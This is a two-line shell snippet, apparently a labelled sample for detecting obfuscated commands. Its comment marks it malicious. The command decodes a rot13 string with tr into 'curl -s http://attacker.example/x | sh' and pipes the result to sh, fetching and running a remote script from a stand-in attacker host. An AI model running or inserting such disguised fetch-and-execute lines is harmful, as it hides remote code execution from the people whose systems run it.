# Malicious, obfuscated: a rot13 string decoded with tr and piped to sh; it is curl ... | sh.
echo 'phey -f uggc://nggnpxre.rknzcyr/k | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh
